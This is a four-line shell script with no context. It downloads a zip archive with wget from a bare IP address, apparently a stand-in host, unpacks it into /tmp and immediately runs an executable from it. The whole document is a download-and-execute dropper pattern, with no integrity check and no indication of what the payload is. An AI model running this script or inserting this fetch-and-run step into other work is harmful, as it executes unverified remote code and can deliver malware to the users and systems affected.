#!/bin/sh
wget -O /tmp/a.zip http://192.0.2.5/a.zip
unzip -o /tmp/a.zip -d /tmp/a
/tmp/a/start
